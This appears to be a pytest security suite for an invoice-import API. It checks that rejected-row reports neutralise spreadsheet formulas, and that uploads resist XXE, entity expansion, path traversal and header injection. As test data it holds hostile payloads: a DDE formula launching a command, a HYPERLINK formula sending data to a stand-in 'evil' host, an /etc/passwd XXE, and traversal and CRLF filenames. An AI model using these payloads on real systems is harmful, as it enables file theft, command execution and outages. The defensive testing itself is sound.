"""API10:2023, what the suite takes from others: a file or a partner's statement is believed as far as it is proved."""

from __future__ import annotations

import csv
from typing import Any
from uuid import uuid4

import pytest
from town import Answer, Town

HEADER = "企业代号,发票号码,开票日期,购方单位代号,金额,税额,价税合计,发票状态\n"
FORMULAS = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", '=HYPERLINK("http://evil/"&A1)')
XXE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>"""
LAUGHS = (
    b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>"""
)


def _send(town: Town, who: str, kind: str, name: str, content: bytes) -> Answer:
    headers = {"Content-Type": "application/octet-stream", "Idempotency-Key": str(uuid4())}
    return town.send(who, "POST", f"/v1/imports?kind={kind}&filename={name}", content, headers)


def test_a_report_of_rejected_rows_runs_in_no_spreadsheet(town: Town) -> None:
    """D12: a cell that begins a formula is quoted; the report is saved, not shown."""
    said = [each.replace('"', '""') for each in FORMULAS]
    rows = "".join(f'D1,N{place},"{each}",A1,1,1,2,有效发票\n' for place, each in enumerate(said))
    state = town.imported("data source", _send(town, "data source", "invoices.sale", "f.csv", (HEADER + rows).encode()))
    report = town.ask("data source", "GET", f"/v1/imports/{state['id']}/rejects")
    assert report.status == 200, report.data
    cells = [cell for line in csv.reader(report.data.decode("utf-8-sig").splitlines()) for cell in line]
    assert [cell[1:].strip() for cell in cells if cell.startswith("'")] == [formula.strip() for formula in FORMULAS]
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")]
    assert report.headers["Content-Disposition"].startswith("attachment")
    assert report.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("content", [XXE, LAUGHS])
def test_an_invoice_that_names_other_files_reads_none(town: Town, content: bytes) -> None:
    """XXE and entities that grow: refused or failed, and nothing of this machine in the answer."""
    sent = _send(town, "owner", "invoices", "x.xml", content)
    told = sent.data if sent.status != 202 else str(town.imported("owner", sent)).encode()
    assert b"root:" not in told
    assert sent.status in {413, 422} or b"'done'" not in told or b"'accepted': 0" in told


def test_a_firm_sends_nothing_in_another_s_name(town: Town) -> None:
    """Rows of other firms are rejected with their line; of the other's file nothing changes."""
    before = town.ask("another enterprise", "GET", f"/v1/enterprises/{town.other}/features").json["values"]
    row = f"{town.other},X1,2019/1/4,A1,9,1,10,有效发票\n"
    sent = _send(town, "owner", "invoices.sale", "f.csv", (HEADER + row).encode())
    assert sent.status in {403, 422} or town.imported("owner", sent)["accepted"] == 0
    after = town.ask("another enterprise", "GET", f"/v1/enterprises/{town.other}/features").json["values"]
    assert after == before


def test_an_invented_invoice_does_not_contradict_whom_it_names(town: Town) -> None:
    """D8: what one firm alone states of another is unconfirmed there, and tells no more of the other than of nobody."""

    def rules(who: str, firm: str) -> dict[str, Any]:
        return {one["rule"]: one for one in town.ask(who, "GET", f"/v1/enterprises/{firm}/cross-checks").json["rules"]}

    def told() -> tuple[Any, Any]:
        return rules("another enterprise", town.other), rules("disputant", town.disputant)["mirrored-invoice"]

    theirs, learnt = told()
    sale = {
        "direction": "sale",
        "date": "2024-06-03",
        "net_fen": 100_000_000,
        "tax_fen": 0,
        "total_fen": 100_000_000,
        "status": "valid",
        "synthetic": True,
    }
    partners = {"INVENTED1": town.other, "INVENTED2": "local:NOBODY"}
    sales = [{**sale, "number": number, "counterparty": partner} for number, partner in partners.items()]
    sent = town.ask("disputant", "POST", f"/v1/enterprises/{town.disputant}/invoices", {"records": sales})
    assert town.imported("disputant", sent)["accepted"] == 2
    more = theirs["mirrored-invoice"]["unconfirmed"] + 1
    assert told() == (
        {**theirs, "mirrored-invoice": {**theirs["mirrored-invoice"], "unconfirmed": more}},
        {**learnt, "unconfirmed": learnt["unconfirmed"] + len(sales)},
    )


def test_a_file_s_name_leads_nowhere(town: Town) -> None:
    """Names with folders, NUL and line ends: refused, or kept as words."""
    for name in ("../../../etc/passwd", "a%00.csv", "a%0d%0aX-Evil:%201", "....//x", "%2e%2e%2fx.csv"):
        headers = {"Content-Type": "application/octet-stream", "Idempotency-Key": str(uuid4()), **town.headers["owner"]}
        sent = town.http.request(
            "POST", f"{town.url}/v1/imports?kind=invoices.sale&filename={name}", body=b"x\n1\n", headers=headers
        )
        assert sent.status < 500
        assert "X-Evil" not in sent.headers
